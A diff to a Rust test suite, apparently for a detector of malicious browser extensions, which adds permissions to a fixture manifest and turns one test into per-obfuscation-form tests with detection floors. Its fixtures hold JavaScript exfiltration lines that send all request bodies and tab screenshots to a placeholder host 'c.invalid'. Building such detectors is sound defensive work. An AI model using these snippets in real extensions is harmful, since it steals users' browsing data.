@@ -48,7 +48,7 @@ fn arrivals(facts: &[Fact]) -> BTreeSet<String> {
         .collect()
 }
 
-const MANIFEST: &str = r#"{"manifest_version":3,"name":"x","version":"1","permissions":["cookies","storage"],
+const MANIFEST: &str = r#"{"manifest_version":3,"name":"x","version":"1","permissions":["cookies","storage","webRequest","scripting","alarms"],
     "host_permissions":["https://mail.google.com/*"],"background":{"service_worker":"bg.js"},
     "content_scripts":[{"matches":["https://mail.google.com/*"],"js":["c.js"]}]}"#;
 
@@ -103,7 +103,7 @@ fn the_other_roads_out() {
         (
             "chrome.webRequest.onBeforeRequest.addListener((d) => { fetch('https://c.invalid/?' + new URLSearchParams({ b: JSON.stringify(d.requestBody) })) }, { urls: ['<all_urls>'] }, ['requestBody'])",
             "",
-            "login.password fetch c.invalid",
+            "network.body fetch c.invalid",
         ),
         (
             "chrome.tabs.captureVisibleTab(null, {}, (image) => { const s = new WebSocket('wss://c.invalid'); s.onopen = () => s.send(image) })",
@@ -221,9 +221,20 @@ fn measure(form: &str, floor: usize) {
     assert!(proven * 100 >= thefts * floor, "{form}: {proven} of {thefts}\n{log}");
 }
 
-#[test]
-fn plain_fixtures_are_proven_by_running_them() {
-    measure("plain", 55);
+/// One test a form, so that they run beside each other.
+macro_rules! proven_by_running_them {
+    ($($form:ident: $floor:literal),* $(,)?) => {
+        $(#[test]
+        fn $form() {
+            measure(stringify!($form), $floor);
+        })*
+    };
+}
+
+mod proven_by_running_them {
+    use super::measure;
+
+    proven_by_running_them! { plain: 95, minified: 90, bundled: 90, obfuscated: 90, encoded: 90, rc4: 90, high: 85 }
 }
 
 fn in_memory(expected: &Expected, files: &Files) -> Package {
